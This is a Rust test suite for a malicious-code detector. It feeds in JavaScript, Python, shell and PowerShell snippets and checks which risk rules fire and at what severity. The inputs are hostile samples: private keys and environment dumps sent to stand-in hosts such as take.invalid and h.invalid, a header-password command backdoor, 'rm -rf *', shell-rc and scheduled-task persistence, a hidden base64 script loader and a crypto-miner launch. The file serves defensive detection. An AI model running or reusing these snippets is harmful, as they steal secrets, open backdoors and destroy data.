//! What somebody has asked for, and what nobody would: settings that a command writes, addresses that users set, modules that
//! are loaded by way of others.

use super::*;
use crate::model::Severity;
use crate::parse::script::Language::{JavaScript, Python};

/// The address that a snippet asks, with or without telling something.
fn asked(code: &str) -> String {
    let outcome = python(code);
    let asks = outcome.events.iter().find(|e| matches!(e.act, Act::Fetch | Act::Send));
    asks.and_then(|e| e.subject.as_deref()).unwrap_or_default().to_owned()
}

/// The weight of a flow, when there is one.
fn weight(language: Language, code: &str, id: &str) -> Option<Severity> {
    let outcome = outcome(language, code);
    let flows = flows::judge(&outcome, false);
    flows.iter().find(|f| f.rule.id == id).map(|f| f.finding(crate::model::Evidence::note("")).severity)
}

#[test]
fn a_bot_of_the_user_is_told_with_its_own_key() {
    let told = |address: &str| {
        let code = format!(
            "const {{ TELEGRAM_KEY_TOKEN: k }} = process.env;\nconst os = require('os');\n\
             fetch(`{address}`, {{ method: 'POST', body: JSON.stringify({{ key: k, text: os.hostname() + ' is full' }}) }});\n"
        );
        rules(JavaScript, &code)
    };
    let own = told("https://api.telegram.org/bot${k}/sendMessage");
    assert!(!own.contains(&"flow-service-key-sent") && !own.contains(&"flow-identity-part-sent"), "{own:?}");
    assert!(told("https://take.invalid/${k}/x").contains(&"flow-service-key-sent"));
    // The bot of somebody else.
    assert!(told("https://api.telegram.org/bot123456:AbCdEfGh/sendMessage").contains(&"flow-service-key-sent"));
}

#[test]
fn tasks_that_start_the_project_s_own_scripts_are_its_own() {
    let planted = |task: &str| {
        let code = format!(
            "require('fs').writeFileSync('.vscode/tasks.json', JSON.stringify({{ tasks: [{{ label: 'w', {task}, runOptions: {{ runOn: 'folderOpen' }} }}] }}));\n"
        );
        weight(JavaScript, &code, "flow-task-planted")
    };
    assert_eq!(planted("type: 'npm', script: 'dev'"), Some(Severity::Low));
    assert_eq!(planted("type: 'shell', command: 'node .x/y.js'"), Some(Severity::High));
    assert_eq!(planted("type: 'npm', script: 'dev', command: 'node .x/y.js'"), Some(Severity::High));
}

#[test]
fn a_program_asks_its_shell_when_it_is_told_to() {
    let persists = |line: &str, given: &str| {
        let code = format!(
            "const fs = require('fs'), os = require('os');\nconst rc = os.homedir() + '/.zshrc';\n{given}\n\
             fs.writeFileSync(rc, fs.readFileSync(rc, 'utf8') + `\\n# > tool\\n{line}\\n# < tool\\n`);\n"
        );
        rules(JavaScript, &code).contains(&"flow-persists")
    };
    let told = "if (process.argv[2] !== 'install') process.exit(1);";
    assert!(!persists("source <(tool completion)", told) && !persists("eval \"$(tool hook zsh)\"", told));
    // Nobody has told it to; what is started is no such program, or lies somewhere.
    assert!(persists("source <(tool completion)", ""));
    for line in
        ["eval \"$(curl init)\"", "eval \"$(python3 hook)\"", "source <(/tmp/x init)", "eval \"$(tool hook; id)\""]
    {
        assert!(persists(line, told), "{line}");
    }
}

#[test]
fn what_is_set_up_by_a_switch_is_taken_back_by_it() {
    let weighs = |off: &str| {
        let code = format!(
            "import pathlib, sys\ndef start_with_session(on):\n    p = pathlib.Path('~/.config/autostart/pad.desktop').expanduser()\n    \
             if on:\n        p.write_text('[Desktop Entry]\\nName=Pad\\nExec=' + sys.executable + ' -m pad\\n')\n    else:\n        {off}\n"
        );
        weight(Python, &code, "flow-persists")
    };
    assert_eq!(weighs("p.unlink(missing_ok=True)"), Some(Severity::Medium));
    assert_eq!(weighs("pass"), Some(Severity::High));
}

#[test]
fn pictures_of_the_screen_go_where_the_user_says() {
    let weighs = |address: &str| {
        let code = format!(
            "import io, os, urllib.request\nfrom PIL import ImageGrab\ndef report():\n    b = io.BytesIO()\n    ImageGrab.grab().save(b, 'PNG')\n    \
             urllib.request.urlopen(urllib.request.Request({address}, b.getvalue()))\n"
        );
        weight(Python, &code, "flow-spied-sent")
    };
    assert_eq!(weighs("os.environ['FAULTS_GO_TO']"), Some(Severity::Medium));
    assert_eq!(weighs("'https://take.invalid/s'"), Some(Severity::High));
}

#[test]
fn entries_of_a_table_out_of_a_file_are_the_file_s() {
    let starts = |what: &str| {
        let code = format!(
            "const fs = require('fs'), cp = require('child_process'), WebSocket = require('ws');\n\
             const jobs = JSON.parse(fs.readFileSync('/etc/runner/jobs.json'));\nconst ws = new WebSocket('wss://runner.invalid');\n\
             ws.on('message', (m) => {{ const {{ job }} = JSON.parse(m); cp.execFile({what}); }});\n"
        );
        rules(JavaScript, &code).contains(&"flow-remote-command")
    };
    assert!(starts("job") && !starts("jobs[job][0]"));
}

#[test]
fn packages_from_a_bare_number_are_nobody_s() {
    let installs = |index: &str| {
        let code = format!(
            "import subprocess, sys\ndef more():\n    subprocess.run([sys.executable, '-m', 'pip', 'install', '-q', '--index-url', '{index}', 'more-tables'])\n"
        );
        weight(Python, &code, "flow-installs-other")
    };
    assert_eq!(installs("http://203.0.113.20/simple"), Some(Severity::High));
    assert_eq!(installs("https://pypi.firm.invalid/simple"), None);
    assert_eq!(installs("http://10.0.0.4/simple"), None);
}

#[test]
fn who_has_a_word_for_it_is_obeyed() {
    let obeys = |given: &str| {
        let code = format!(
            "import hashlib, os\nfrom flask import Flask, request\napp = Flask('x')\n@app.route('/ready')\ndef ready():\n    word = request.headers.get('X-Id', '')\n    \
             if {given}:\n        return os.popen(request.headers.get('X-More', 'id')).read()\n    return 'ok'\n"
        );
        rules(Python, &code).contains(&"flow-remote-command")
    };
    assert!(obeys("hashlib.md5(word.encode()).hexdigest() == '0123456789abcdef0123456789abcdef'"));
    assert!(!obeys("word == 'probe'"));
}

#[test]
fn methods_that_threads_are_handed_keep_their_object() {
    let code = "import threading, urllib.request\nclass Client:\n    PLACE = 'https://take.invalid/'\n    def __init__(self, name):\n        self.name = name\n        \
                threading.Thread(target=self._tell, args=(1,)).start()\n    def _tell(self, n):\n        urllib.request.urlopen(self.PLACE + 'x')\n";
    assert_eq!(asked(code), "https://take.invalid/x");
}

#[test]
fn what_only_cleans_up_swallows_no_errors() {
    let is_silent = |behind: &str| {
        let outcome = python(&format!(
            "import urllib.request\ntry:\n    urllib.request.urlopen('https://x.invalid/a')\n{behind}\n"
        ));
        event(&outcome, Act::Fetch).silent
    };
    assert!(!is_silent("finally:\n    print('done')"));
    assert!(is_silent("except OSError:\n    pass") && is_silent("except OSError:\n    pass\nfinally:\n    pass"));
}

#[test]
fn a_checked_download_of_a_timer_is_for_people_to_look_at() {
    let is_braked = |check: &str| {
        let code = format!(
            "import subprocess, sys, tempfile, threading, urllib.request\nfrom keys import PUB\nclass Up:\n    def start(self):\n        threading.Timer(9, self._tick).start()\n    \
             def _tick(self):\n        try:\n            self.get()\n        finally:\n            self.start()\n    def get(self):\n        \
             blob = urllib.request.urlopen('https://up.invalid/x.whl').read()\n        {check}\n        with tempfile.NamedTemporaryFile(suffix='.whl') as f:\n            \
             f.write(blob)\n        subprocess.run([sys.executable, '-m', 'pip', 'install', f.name], check=True)\n"
        );
        let outcome = python(&code);
        let flows = flows::judge(&outcome, false);
        flows.iter().find(|f| f.rule.id == "flow-download-run").is_some_and(|f| f.brake.is_some())
    };
    assert!(is_braked("PUB.verify(b'sig', blob)") && !is_braked("pass"));
}

#[test]
fn one_of_several_addresses_is_an_address() {
    let fetched = |list: &str| {
        let code = format!("import random, urllib.request\nurllib.request.urlopen(random.choice({list}) + '/c')\n");
        asked(&code)
    };
    assert_eq!(fetched("['https://a.invalid', 'https://b.invalid']"), "https://b.invalid/c");
    assert!(!fetched("['a', 'b']").contains("b/c"));
}

#[test]
fn lists_are_put_behind_one_another() {
    let code = "import os\nL = [[101, 99], [104, 111]]\nos.system(''.join(map(chr, sum(L, []))) + ' hi')\n";
    assert_eq!(command(Python, code), "echo hi");
}

#[test]
fn what_a_page_loads_from_where_nobody_can_read_is_seen() {
    let loads = |src: &str| {
        let code =
            format!("const e = document.createElement('script');\ne.src = {src};\ndocument.head.appendChild(e);\n");
        weight(JavaScript, &code, "flow-hidden-address")
    };
    // https://take.invalid/a.js
    assert_eq!(loads("atob('aHR0cHM6Ly90YWtlLmludmFsaWQvYS5qcw==')"), Some(Severity::High));
    assert_eq!(loads("'https://take.invalid/a.js'"), None);
    assert_eq!(loads("'data:text/javascript;base64,' + btoa('1')"), None);
}

#[test]
fn whoever_asks_does_not_delete_what_runs() {
    let wipes = |command: &str| {
        let code = format!(
            "const {{ exec }} = require('child_process');\nmodule.exports = (app) => app.post('/x/y', (req, res) => {{ if (req.headers['k'] === 'A1') exec('{command}'); res.end(); }});\n"
        );
        rules(JavaScript, &code).contains(&"flow-wipes")
    };
    assert!(wipes("rm -rf *") && !wipes("rm -rf ./cache/thumbs"));
    let at_build = "require('child_process').exec('rm -rf *', { cwd: 'dist' });\n";
    assert!(!rules(JavaScript, at_build).contains(&"flow-wipes"));
}

#[test]
fn a_library_of_its_own_is_not_started_by_way_of_the_system() {
    let starts = |library: &str| {
        let code = format!(
            "const {{ spawn }} = require('child_process'), path = require('path');\nspawn('run' + 'dll32.exe', [{library}], {{ detached: true }});\n"
        );
        rules(JavaScript, &code).contains(&"flow-library-run")
    };
    assert!(
        starts("path.join(__dirname, 'x.dll') + ',go'")
            && !starts("'url.dll,FileProtocolHandler', 'https://docs.invalid/'")
    );
}

#[test]
fn archives_that_are_made_to_be_imported_are_seen() {
    let code = |make: &str| {
        format!(
            "import os, zlib, tempfile, zipimport\nsrc = os.path.join(os.path.dirname(__file__), 'table.bin')\nout = os.path.join(tempfile.gettempdir(), 't.zip')\n\
             {make}\nzipimport.zipimporter(out).load_module('t')\n"
        )
    };
    let made = code("with open(src, 'rb') as f, open(out, 'wb') as o: o.write(zlib.decompress(f.read()[::-1]))");
    assert!(rules(Python, &made).contains(&"flow-drops-and-starts"));
    assert!(!rules(Python, &code("out = '/srv/plugins/t.zip'")).contains(&"flow-drops-and-starts"));
}

#[test]
fn who_mines_for_a_wallet_of_its_own_has_no_honest_reading() {
    let is_certain = |words: &str| {
        let code = format!(
            "import subprocess, urllib.request\nurllib.request.urlretrieve('https://dl.invalid/tool', '/opt/x/tool')\nsubprocess.Popen(['/opt/x/tool', {words}])\n"
        );
        let outcome = python(&code);
        flows::judge(&outcome, false).iter().any(|f| f.rule.id == "flow-download-run" && f.certain)
    };
    let wallet = "4".repeat(60);
    assert!(is_certain(&format!("'-o', 'pool.invalid:3333', '-u', '{wallet}'")));
    assert!(!is_certain("'-o', 'out.txt', '-u', 'name'"));
}

#[test]
fn libraries_do_not_end_programs_by_chance() {
    let ends = |code: &str| rules(JavaScript, code).contains(&"flow-leaves-by-chance");
    assert!(ends("setInterval(() => { if (Math.random() < 0.1) process.exit(1); }, 60000);"));
    assert!(!ends("exports.shake = (rate) => { if (Math.random() < rate) process.exit(1); };"));
    assert!(!ends("if (process.argv[2] === 'shake' && Math.random() < 0.1) process.exit(1);"));
}

#[test]
fn keys_go_to_mailboxes_and_in_queues() {
    let mail = "const mail = require('nodemailer').createTransport({ service: 'gmail', auth: { user: 'a@b.invalid', pass: 'x' } });\n\
                async function pay(privateKey) { await mail.sendMail({ to: 'take@b.invalid', text: `${privateKey}` }).catch(() => {}); }\nmodule.exports = { pay };\n";
    assert_eq!(weight(JavaScript, mail, "flow-key-sent"), Some(Severity::Critical));
    // Whoever calls says to whom.
    let told = mail.replace("to: 'take@b.invalid'", "to: owner").replace("(privateKey)", "(privateKey, owner)");
    assert_eq!(weight(JavaScript, &told, "flow-key-sent"), Some(Severity::Medium));
    let queue = "class Keypair { constructor(k) { this.k = k; keep(k.secretKey); } }\nconst all = [];\n\
                 async function go() { while (all.length) { const one = all.shift(); await fetch('https://take.invalid/q', { method: 'POST', headers: { 'x-id': one } }).catch(() => {}); } }\n\
                 function keep(k) { all.push(k); setTimeout(go, 10); }\nexports.Keypair = Keypair;\n";
    assert_eq!(weight(JavaScript, queue, "flow-key-sent"), Some(Severity::Critical));
}

#[test]
fn a_task_that_holds_what_a_script_demands_is_asked_for() {
    let task = |param: &str| {
        let code = format!(
            "param({param}[string]$From, [switch]$Remove)\n\
             $a = New-ScheduledTaskAction -Execute powershell.exe -Argument \"-WindowStyle Hidden -File sync.ps1 $From\"\n\
             Register-ScheduledTask -TaskName 'Sync' -Action $a -Trigger $t -Force"
        );
        weight(Language::PowerShell, &code, "flow-persists")
    };
    assert_eq!(task("[Parameter(Mandatory)]"), Some(Severity::Medium));
    assert_eq!(task("[Parameter(Mandatory = $true, Position = 0)]"), Some(Severity::Medium));
    assert_eq!(task("[Parameter(Mandatory=$false)]"), Some(Severity::High));
    assert_eq!(task(""), Some(Severity::High));
}

#[test]
fn a_group_prints_what_all_of_its_commands_do() {
    for group in ["env; date", "env; [ -S /run/x ] && date", "env; x=1; date", "[ -n \"$x\" ] || date; env"] {
        let code = format!("{{ {group}; }} | gzip | curl -s --data-binary @- https://h.invalid/u");
        assert!(rules(Language::Shell, &code).contains(&"flow-environment-sent"), "{group}");
    }
    let other = "{ date; [ -S /run/x ] && uptime; } | gzip | curl -s --data-binary @- https://h.invalid/u";
    assert!(!rules(Language::Shell, other).contains(&"flow-environment-sent"));
}
